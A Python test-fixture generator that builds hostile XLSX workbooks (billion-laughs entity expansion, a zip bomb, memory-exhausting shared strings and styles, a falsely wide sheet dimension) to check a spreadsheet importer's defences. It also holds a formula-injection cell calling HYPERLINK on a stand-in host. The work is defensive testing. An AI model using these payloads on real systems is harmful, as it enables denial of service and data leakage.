"""Hostile XLSX workbooks for tests/test_hostile_input.py: made here, so each is plain to read.

Run ``python tests/hostile/make_xlsx.py`` to write them beside this file (they are committed;
the tests also build them in memory from the same functions).
"""

from __future__ import annotations

import io
import random
import string
import zipfile
from pathlib import Path

SECRET = "SECRETMARK"

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '</Types>')
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    '</Relationships>')
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Roster" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    '</Relationships>')
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _sheet(rows: str, prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f'<worksheet {_NS}><sheetData>{rows}</sheetData></worksheet>')


def _strings(items: list[str], prolog: str = "") -> str:
    body = "".join(f"<si><t>{s}</t></si>" for s in items)
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f'<sst {_NS} count="{len(items)}" uniqueCount="{len(items)}">{body}</sst>')


def _cell(ref: str, index: int) -> str:
    return f'<c r="{ref}" t="s"><v>{index}</v></c>'


_HEADER = f'<row r="1">{_cell("A1", 0)}{_cell("B1", 1)}</row>'


def _package(z: zipfile.ZipFile) -> None:
    """The parts every workbook here has but its sheet and its strings."""
    z.writestr("[Content_Types].xml", _CONTENT_TYPES)
    z.writestr("_rels/.rels", _RELS)
    z.writestr("xl/workbook.xml", _WORKBOOK)
    z.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)


def workbook(sheet: str, strings: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        _package(z)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        z.writestr("xl/sharedStrings.xml", strings)
    return out.getvalue()


def good() -> bytes:
    """name, unit / Ana Lopez, ICU: the control case, accepted."""
    return workbook(_sheet(_HEADER + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'),
                    _strings(["name", "unit", "Ana Lopez", "ICU"]))


def billion_laughs() -> bytes:
    """Shared strings whose entities expand to a billion copies of the secret."""
    lol = (f'<!DOCTYPE sst [<!ENTITY a "{SECRET}">'
           + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
           + "]>")
    return workbook(_sheet(_HEADER + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'),
                    _strings(["name", "unit", "&j;", "ICU"], prolog=lol))


def zip_bomb() -> bytes:
    """A sheet of 60 MB of blank space: a few kilobytes in the zip."""
    pad = " " * 60_000_000
    return workbook(_sheet(_HEADER + pad + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'),
                    _strings(["name", "unit", "Ana Lopez", "ICU"]))


def huge_shared_string() -> bytes:
    """One shared string of 2 million characters (Excel allows 32,767 in a cell)."""
    return workbook(_sheet(_HEADER + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'),
                    _strings(["name", "unit", SECRET * 200_000, "ICU"]))


def formula_cells() -> bytes:
    """A name that is a formula (it would run in whoever opens an export of it)."""
    row = (f'<row r="2"><c r="A2"><f>HYPERLINK("http://x/{SECRET}","Ana")</f></c>'
           f'{_cell("B2", 3)}</row>')
    return workbook(_sheet(_HEADER + row), _strings(["name", "unit", "unused", "ICU"]))


def wide_dimension() -> bytes:
    """A sheet claiming to span A1:XFD1048576, with one real row: read as what it holds."""
    sheet = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {_NS}>'
             f'<dimension ref="A1:XFD1048576"/><sheetData>{_HEADER}'
             f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row></sheetData></worksheet>')
    return workbook(sheet, _strings(["name", "unit", "Ana Lopez", "ICU"]))


def many_tiny_shared_strings(size: int = 140_000_000) -> bytes:
    """Shared strings of ``size`` bytes of two-letter strings, one in 36 random: ~115 times
    smaller zipped (under the ratio a zip bomb is refused at), 3-4 times bigger in memory.

    Too big to commit (1.2 MB); made when the tests run. At 360 MB (3.1 MB zipped) it took
    1.4 GB of memory to read.
    """
    rnd = random.Random(7)
    chars = string.ascii_letters + string.digits
    unit = "".join(f"<si><t>{rnd.choice(chars)}{rnd.choice(chars)}</t></si>" if i % 36 == 0
                   else "<si><t>ab</t></si>" for i in range(60_000)).encode()
    head = _strings(["name", "unit", "Ana Lopez", "ICU"]).removesuffix("</sst>").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        _package(z)
        z.writestr("xl/worksheets/sheet1.xml",
                   _sheet(_HEADER + f'<row r="2">{_cell("A2", 2)}{_cell("B2", 3)}</row>'))
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as fh:
            fh.write(head)
            for _ in range(size // len(unit)):
                fh.write(unit)
            fh.write(b"</sst>")
    return out.getvalue()


def bloated_styles(size: int = 20_000_000) -> bytes:
    """A styles.xml of ``size`` bytes of empty cell styles (<xf/>), one in 30 with a number
    format: ~60 times smaller zipped; read whole as a tree, ~20 times bigger in memory (at
    100 MB, 1.6 MB zipped, it took 1.9 GB). Made when the tests run, as the one above.
    """
    rnd = random.Random(7)
    unit = "".join(f'<xf numFmtId="{rnd.randrange(200)}"/>' if i % 30 == 0 else "<xf/>"
                   for i in range(200_000)).encode()
    good_book = zipfile.ZipFile(io.BytesIO(good()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in good_book.infolist():
            z.writestr(info.filename, good_book.read(info))
        with z.open("xl/styles.xml", "w", force_zip64=True) as fh:
            fh.write(f"<styleSheet {_NS}><cellXfs>".encode())
            for _ in range(size // len(unit)):
                fh.write(unit)
            fh.write(b"</cellXfs></styleSheet>")
    return out.getvalue()


FILES = {"good.xlsx": good, "billion-laughs.xlsx": billion_laughs, "zip-bomb.xlsx": zip_bomb,
         "huge-shared-string.xlsx": huge_shared_string, "formula-cells.xlsx": formula_cells,
         "wide-dimension.xlsx": wide_dimension}

if __name__ == "__main__":
    here = Path(__file__).parent
    for name, make in FILES.items():
        (here / name).write_bytes(make())
        print(name, (here / name).stat().st_size)
